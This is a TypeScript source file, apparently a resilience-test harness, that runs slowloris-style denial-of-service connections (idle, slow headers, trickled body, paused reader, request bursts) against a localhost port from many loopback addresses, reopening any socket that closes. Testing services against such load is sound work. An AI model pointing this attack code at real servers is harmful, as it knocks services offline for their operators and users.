import { connect, type Socket } from 'node:net';
import { setTimeout as delay } from 'node:timers/promises';

/** How strangers keep an app waiting. Of what is not finished, nothing more comes. */
export const WAYS = ['idle', 'slow headers', 'slow body', 'drops of a body', 'slow reader', 'many at once'] as const;
export type Way = (typeof WAYS)[number];

export interface Attack {
  readonly port: number;
  readonly way: Way;
  readonly connections: number;
  /** From so many addresses of 127.0.0.0/8, none of which good callers have. */
  readonly addresses: number;
  /** What is asked for, and with which headers. */
  readonly path: string;
  readonly writesTo: string;
  readonly headers: readonly string[];
}

/** One connection that is closed is opened again after so long, in milliseconds: of 5 000 thus 1 000 a second. More would be a flood. */
const AGAIN_MS = 5_000;
/** Opened in a millisecond while the attack begins, before good callers call. */
const AT_ONCE = 2;
const DROP_MS = 200;
/** How many requests one connection of few sends at once, and how often; of thousands it is one each, as more could not be read here at all. */
const OFTEN = { requests: 8, everyMs: 1_000 };
const SELDOM = { requests: 1, everyMs: 2_000 };
/** How many requests of one connection get answers that nobody takes. Thirty of thousands would be a flood, not a wait. */
const UNTAKEN = 30;
const UNTAKEN_OF_MANY = 6;
const MANY = 1_000;

/** Attacks until the process ends; tells on stdout when all connections have been opened, or refused, once. */
async function attack(it: Attack): Promise<void> {
  const opened: Promise<void>[] = [];
  for (let i = 0; i < it.connections; i++) {
    opened.push(new Promise((resolve) => void keepOpen(it, addressOf(i % it.addresses), resolve)));
    if (i % AT_ONCE === 0) await delay(1);
  }
  await Promise.all(opened);
  process.stdout.write('all\n');
}

const addressOf = (i: number) => `127.${1 + (i >> 14)}.${(i >> 7) & 127}.${2 + (i & 127)}`;

async function keepOpen(it: Attack, localAddress: string, onOpened: () => void): Promise<void> {
  for (;;) {
    await new Promise<void>((resolve) => {
      const socket = connect({ port: it.port, host: '127.0.0.1', localAddress }, () => begin(it, socket));
      socket.on('connect', onOpened);
      socket.on('error', () => undefined).on('close', () => resolve());
    });
    onOpened();
    await delay(AGAIN_MS);
  }
}

function begin({ way, connections, path, writesTo, headers }: Attack, socket: Socket): void {
  const head = (line: string, ...more: string[]) => [`${line} HTTP/1.1`, ...headers, ...more, ''].join('\r\n');
  const whole = `${head(`GET ${path}`)}\r\n`;
  const post = `${head(`POST ${writesTo}`, 'Content-Type: application/json', 'Content-Length: 1000')}\r\n{`;
  if (way === 'idle') socket.write(whole);
  else if (way === 'slow headers') socket.write(head(`GET ${path}`));
  else if (way === 'slow reader') socket.pause().write(whole.repeat(connections > MANY ? UNTAKEN_OF_MANY : UNTAKEN));
  else if (way === 'many at once') askAgain(socket, whole, connections > MANY ? SELDOM : OFTEN);
  else socket.write(post);
  if (way !== 'slow reader') socket.resume();
  if (way !== 'drops of a body') return;
  const drops = setInterval(() => socket.write(' '), DROP_MS);
  socket.on('close', () => clearInterval(drops));
}

function askAgain(socket: Socket, request: string, { requests, everyMs }: typeof OFTEN): void {
  const ask = () => void (socket.writable && socket.write(request.repeat(requests)));
  const timer = setInterval(ask, everyMs);
  socket.on('close', () => clearInterval(timer));
  ask();
}

const [, program, given] = process.argv;
if (program === import.meta.filename && given !== undefined) {
  await attack(JSON.parse(given) as Attack); // as `Attack` says
}
